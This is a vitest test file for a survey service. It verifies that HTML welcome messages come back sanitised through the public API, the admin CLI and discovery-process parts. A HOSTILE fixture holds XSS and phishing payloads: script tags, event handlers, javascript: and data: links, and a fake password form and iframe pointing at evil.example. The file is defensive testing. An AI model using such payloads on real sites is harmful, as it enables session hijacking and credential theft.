import { eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dpSurveyParts, surveys } from '../../db/schema/surveys.ts';
import { buildTestApp, type TestApp } from '../../test/build-test-app.ts';
import { makeSurvey } from '../../test/surveys.factory.ts';

let t: TestApp;
beforeAll(async () => {
  t = await buildTestApp();
});
afterAll(() => t.close());

const HOSTILE =
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">' +
  '<base href="https://evil.example/">' +
  '<p onclick="steal()">Welcome<script>steal()</script></p>' +
  '<div style="position:fixed;inset:0;z-index:9999" class="overlay">Session expired</div>' +
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>' +
  '<img src="x" onerror="steal()">' +
  '<a href="JaVaScRiPt:steal()">Continue</a>' +
  '<a href="data:text/html,<script>steal()</script>">More</a>' +
  '<iframe src="https://evil.example/"></iframe>' +
  '<svg onload="steal()"></svg>' +
  '<p><a href="https://example.com/help" target="_blank">Help</a></p>';

const SAFE =
  '<p>Welcome</p>' +
  '<div>Session expired</div>' +
  'Sign in' +
  '<img src="x" />' +
  '<a rel="noopener noreferrer">Continue</a>' +
  '<a rel="noopener noreferrer">More</a>' +
  '<p><a href="https://example.com/help" target="_blank" rel="noopener noreferrer">Help</a></p>';

const welcomeOf = async (accessCode: string, locale = 'en_GB') => {
  const res = await t.app.inject({
    method: 'GET',
    url: `/api/public/eq/survey/access-code/${accessCode}/`,
    headers: { 'accept-language': locale },
  });
  expect(res.statusCode).toBe(200);
  return res.json().survey.welcomeMessage as string;
};

describe('welcome messages are sanitised HTML', () => {
  it('hostile HTML written straight into the database comes back sanitised from the public survey info', async () => {
    const survey = await makeSurvey(t.app, { welcomeMessage: '<p>Hi</p>' });
    await t.app.db
      .update(surveys)
      .set({ welcomeMessages: { en_GB: HOSTILE } })
      .where(eq(surveys.id, survey.id));

    expect(await welcomeOf(survey.accessCode)).toBe(SAFE);
  });

  it('an Arabic welcome keeps dir and lang while its hostile parts are dropped', async () => {
    const survey = await makeSurvey(t.app, { welcomeMessage: '<p>Hi</p>' });
    await t.app.db
      .update(surveys)
      .set({
        welcomeMessages: {
          en_GB: '<p>Hi</p>',
          ar: '<p dir="rtl" lang="ar" style="position:fixed">مرحبًا <img src="/a.png" onerror="x()"></p>',
        },
      })
      .where(eq(surveys.id, survey.id));

    expect(await welcomeOf(survey.accessCode, 'ar')).toBe(
      '<p dir="rtl" lang="ar">مرحبًا <img src="/a.png" /></p>',
    );
  });

  it('creating a survey (admin CLI --welcome) stores the welcome message already sanitised', async () => {
    const survey = await makeSurvey(t.app, { welcomeMessage: HOSTILE });
    const [row] = await t.app.db
      .select({ welcomeMessages: surveys.welcomeMessages })
      .from(surveys)
      .where(eq(surveys.id, survey.id));

    expect(row!.welcomeMessages).toEqual({ en_GB: SAFE });
  });

  it('a discovery process stores the sanitised welcome on itself and its three parts', async () => {
    const dp = await makeSurvey(t.app, { product: 'dp', welcomeMessage: HOSTILE });
    const parts = await t.app.db
      .select({ id: dpSurveyParts.partSurveyId })
      .from(dpSurveyParts)
      .where(eq(dpSurveyParts.dpSurveyId, dp.id));
    const rows = await t.app.db
      .select({ welcomeMessages: surveys.welcomeMessages })
      .from(surveys)
      .where(inArray(surveys.id, [dp.id, ...parts.map((p) => p.id)]));

    expect(rows).toHaveLength(4);
    for (const row of rows) expect(row.welcomeMessages).toEqual({ en_GB: SAFE });
  });
});
